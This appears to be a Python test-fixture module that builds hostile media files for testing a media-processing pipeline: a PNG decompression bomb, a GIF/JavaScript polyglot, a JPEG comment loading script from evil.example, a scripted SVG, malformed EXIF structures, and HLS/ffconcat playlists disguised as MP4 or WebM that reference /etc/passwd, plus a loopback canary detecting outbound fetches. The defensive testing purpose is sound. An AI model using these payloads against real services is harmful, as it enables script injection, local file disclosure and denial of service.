"""Hostile files, built byte by byte at test time (nothing binary is kept in the repository).

Each builder returns the bytes of one attack; ``tests.media_samples`` supplies the honest
images and videos they start from.
"""

from __future__ import annotations

import socketserver
import struct
import threading
from pathlib import Path

import pyvips

from tests import media_samples as samples

# --------------------------------------------------------------------------- images


def big_black_png(width: int, height: int) -> bytes:
    """A real, fully decodable PNG that compresses to almost nothing: a decompression bomb
    whose header tells the truth."""
    data: bytes = (
        (pyvips.Image.black(width, height) + 0)
        .cast("uchar")
        .pngsave_buffer(compression=9, keep=pyvips.enums.ForeignKeep.NONE)
    )
    return data


def truncated(data: bytes, share: float = 0.5) -> bytes:
    return data[: max(16, int(len(data) * share))]


def corrupt_middle(data: bytes, start: float = 0.4, length: int = 64) -> bytes:
    """Overwrite a run of bytes in the middle (entropy-coded data, not headers)."""
    out = bytearray(data)
    at = int(len(out) * start)
    out[at : at + length] = b"\x00\xff" * (length // 2)
    return bytes(out)


def png_with_bad_crc() -> bytes:
    data = bytearray(samples.png_bytes(64, 64))
    data[data.index(b"IDAT") + 10] ^= 0x01
    return bytes(data)


def gif_with_leading_script() -> bytes:
    """The GIFAR/GIF-JS trick: a GIF header that is also the start of a JavaScript statement."""
    gif = samples.gif_bytes(32, 32)
    return gif[:6] + b"/*" + gif[8:] + b"*/=1;alert(document.domain);//"


def jpeg_with_html_comment() -> bytes:
    comment = samples.jpeg_segment(0xFE, b"<html><script src=//evil.example/x.js></script></html>")
    return samples.insert_after_soi(samples.jpeg_bytes(64, 64), comment)


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">'
    b"<script>alert(document.cookie)</script></svg>"
)


# --------------------------------------------------------------------------- EXIF


def _app1(payload: bytes) -> bytes:
    return samples.jpeg_segment(0xE1, payload)


def exif_huge_entry_count() -> bytes:
    """IFD0 claims 65,535 entries in a segment that holds a handful."""
    tiff = b"MM\x00\x2a" + struct.pack(">I", 8) + struct.pack(">H", 0xFFFF) + b"\x01\x12\x00\x03" * 4
    return samples.insert_after_soi(samples.jpeg_bytes(96, 64), _app1(b"Exif\x00\x00" + tiff))


def exif_ifd_loop() -> bytes:
    """IFD0 points at itself as the next IFD, and its EXIF sub-IFD points back at IFD0."""
    entries = [(0x0112, 3, 1, struct.pack(">HH", 6, 0)), (0x8769, 4, 1, struct.pack(">I", 8))]
    ifd = struct.pack(">H", len(entries))
    for tag, kind, count, value in entries:
        ifd += struct.pack(">HHI", tag, kind, count) + value
    ifd += struct.pack(">I", 8)  # next IFD: this one again
    tiff = b"MM\x00\x2a" + struct.pack(">I", 8) + ifd
    return samples.insert_after_soi(samples.jpeg_bytes(96, 64), _app1(b"Exif\x00\x00" + tiff))


def exif_offsets_past_the_end() -> bytes:
    """Values whose offsets and counts point far outside the segment (2^31 ASCII bytes at
    offset 4 GB), and an orientation of the wrong type."""
    entries = [
        (0x010F, 2, 0x7FFFFFFF, struct.pack(">I", 0xFFFFFFF0)),
        (0x0112, 2, 0xFFFFFFFF, struct.pack(">I", 0x7FFFFFFF)),
        (0x8825, 4, 1, struct.pack(">I", 0xFFFFFF00)),
    ]
    ifd = struct.pack(">H", len(entries))
    for tag, kind, count, value in entries:
        ifd += struct.pack(">HHI", tag, kind, count) + value
    ifd += struct.pack(">I", 0)
    tiff = b"MM\x00\x2a" + struct.pack(">I", 8) + ifd
    return samples.insert_after_soi(samples.jpeg_bytes(96, 64), _app1(b"Exif\x00\x00" + tiff))


def exif_oversized(segments: int = 90) -> bytes:
    """About 5.9 MB of EXIF in 90 full-size APP1 segments in front of a 96×64 picture."""
    filler = b"Exif\x00\x00" + samples.exif_blob()[6:] + b"\x00" * (65_000 - len(samples.exif_blob()))
    return samples.insert_after_soi(samples.jpeg_bytes(96, 64), *[_app1(filler)] * segments)


# --------------------------------------------------------------------------- video


def hls_playlist(url: str) -> bytes:
    return (
        f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{url}/segment.ts\n"
        "#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"
    ).encode()


def concat_script(url: str) -> bytes:
    return f"ffconcat version 1.0\nfile '{url}/part.webm'\nfile '/etc/passwd'\n".encode()


def mp4_wrapping_playlist(url: str) -> bytes:
    """An ``ftyp`` box (so it is taken for MP4) followed by an HLS playlist."""
    ftyp = struct.pack(">I", 20) + b"ftypisom" + struct.pack(">I", 512) + b"isom"
    return ftyp + hls_playlist(url)


def matroska_wrapping_playlist(url: str) -> bytes:
    """The EBML magic (so it is taken for WebM) followed by a concat script and a playlist."""
    return b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01" + concat_script(url) + hls_playlist(url)


_CONTAINERS = {b"moov", b"trak", b"mdia", b"minf", b"dinf"}


def _rewrite_dref(data: bytes, url: str) -> bytes:
    """Rebuild the boxes on the way to every ``dref`` so that its one entry is an external
    ``url `` reference (flags 0) to ``url``; box sizes are recomputed on the way out."""
    out = b""
    pos = 0
    while pos + 8 <= len(data):
        size, kind = struct.unpack_from(">I4s", data, pos)
        if size < 8 or pos + size > len(data):
            return out + data[pos:]
        body = data[pos + 8 : pos + size]
        if kind in _CONTAINERS:
            body = _rewrite_dref(body, url)
        elif kind == b"dref":
            location = url.encode() + b"\x00"
            entry = struct.pack(">I4s", 12 + len(location), b"url ") + b"\x00\x00\x00\x00" + location
            body = b"\x00\x00\x00\x00" + struct.pack(">I", 1) + entry
        out += struct.pack(">I4s", 8 + len(body), kind) + body
        pos += size
    return out + data[pos:]


def mp4_with_external_data(workdir: Path, url: str) -> bytes:
    """A real H.264 MP4 whose samples were emptied and whose data reference points at
    ``url``: a demuxer that follows data references would fetch the pictures from there."""
    path = samples.video(workdir / "dref.mp4", container="mp4", vcodec="h264", acodec=None, seconds=1.0)
    data = bytearray(path.read_bytes())
    pos = 0
    while pos + 8 <= len(data):  # zero the media data: the only pictures are "elsewhere"
        size, kind = struct.unpack_from(">I4s", data, pos)
        if kind == b"mdat":
            data[pos + 8 : pos + size] = bytes(size - 8)
        pos += max(size, 8)
    # moov comes after mdat (no faststart), so it may grow without moving any sample offset.
    return _rewrite_dref(bytes(data), url)


def truncated_webm(workdir: Path) -> bytes:
    path = samples.video(workdir / "cut.webm", seconds=2.0)
    return truncated(path.read_bytes(), 0.6)


# --------------------------------------------------------------------------- the canary


class Canary:
    """A TCP listener on loopback that counts every connection: if ffmpeg ever follows a
    playlist or a data reference, it knocks here."""

    def __init__(self) -> None:
        self.hits = 0
        canary = self

        class Knock(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                canary.hits += 1

        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Knock)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
